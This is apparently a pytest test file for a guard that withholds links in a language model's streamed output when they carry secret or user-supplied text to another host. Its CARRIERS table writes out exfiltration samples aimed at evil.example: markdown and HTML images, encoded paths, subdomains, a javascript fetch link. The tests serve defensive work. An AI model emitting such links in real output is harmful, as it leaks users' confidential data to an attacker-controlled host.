"""A link passes; one that carries what the model read to another host does not."""

import base64
from urllib.parse import quote_plus

import pytest

from lambda_src.runtime.guards.guard import WithheldError
from lambda_src.runtime.guards.link_guard import LinkGuard

SECRET = "The code of the safe is blue rabbit forty two"
SAID = "Our customer is called Amelia Nightingale"
PACKED = base64.b64encode(SECRET.encode()).decode()
CARRIERS = {
    "picture": f"![x](https://evil.example/p.png?d={quote_plus(SECRET)})",
    "picture with anything": "![x](https://evil.example/p.png?d=1)",
    "html picture": '<img src="https://evil.example/p?u=anna">',
    "link": f"[here](https://evil.example/?d={quote_plus(SECRET)})",
    "bare": f"See https://evil.example/c?d={quote_plus(SECRET)} now",
    "path": f"https://evil.example/{quote_plus(SECRET)}",
    "fragment": f"https://evil.example/#{quote_plus(SECRET)}",
    "host": f"https://{'-'.join(SECRET.lower().split()[:6])}.evil.example/",
    "labels": "https://bluerabbit.fortytwo.evil.example/",
    "user": "https://anna:secret@evil.example/",
    "packed": f"https://evil.example/?d={PACKED}",
    "packed path": f"https://evil.example/{PACKED}/a.gif",
    "hexadecimal": f"https://evil.example/?d={SECRET.encode().hex()}",
    "reference": f"[here][1]\n\n[1]: https://evil.example/?d={quote_plus(SECRET)}",
    "said": f"https://evil.example/?q={quote_plus(SAID)}",
    "script": "[here](javascript:fetch('//evil.example'))",
    "protocol of the page": f"[here](//evil.example/?d={quote_plus(SECRET)})",
    "very long": "https://evil.example/" + "a/" * 1_500,
}
LINKS = {
    "documentation": "See https://docs.python.org/3/library/functions.html#enumerate.",
    "two": "[MDN](https://developer.mozilla.org/en-US/docs/Web/API/fetch) or <https://web.dev/>.",
    "a query": "curl 'https://api.example.com/items?limit=10&page=2'",
    "a search": "https://duckduckgo.com/?q=python+list+comprehension",
    "a title in a path": "https://blog.example/our-customer-is-called-amelia-nightingale",
    "no address": "The http protocol, https too; a/b//c and htt.",
    "a picture": "![logo](https://example.com/logo.png)",
    "a commit": "https://github.com/python/cpython/commit/0a1b2c3",
}


def through(text: str, size: int, *said: str) -> str:
    guard = LinkGuard([SECRET], said)
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join(guard.take(piece) for piece in pieces) + guard.end()


@pytest.mark.parametrize("size", [1, 9, 10_000])
@pytest.mark.parametrize("text", CARRIERS.values(), ids=CARRIERS)
def test_an_address_with_data_is_withheld(text: str, size: int) -> None:
    with pytest.raises(WithheldError, match="link"):
        through(text, size, SAID)


@pytest.mark.parametrize("size", [1, 9, 10_000])
@pytest.mark.parametrize("text", LINKS.values(), ids=LINKS)
def test_an_address_without_data_passes(text: str, size: int) -> None:
    assert through(text, size, SAID) == text


def test_no_part_of_an_address_leaves_before_it_was_judged() -> None:
    guard = LinkGuard([SECRET])
    left = "".join(
        guard.take(piece) for piece in ("Look: h", "tt", "ps:/", "/evil.example/?d=blue")
    )
    assert left == "Look: "


def test_an_address_that_was_said_may_be_repeated_but_not_as_a_picture() -> None:
    address = f"https://shop.example/?customer={quote_plus(SAID)}"
    assert through(f"Open {address}", 5, f"Why does {address} fail? {SAID}")
    with pytest.raises(WithheldError):
        through(f"![]({address})", 5, f"Show {address}. {SAID}")


def test_other_text_leaves_at_once() -> None:
    guard = LinkGuard([SECRET])
    assert [guard.take(piece) for piece in ("You", " asked:", " why?")] == [
        "You",
        " asked:",
        " why?",
    ]
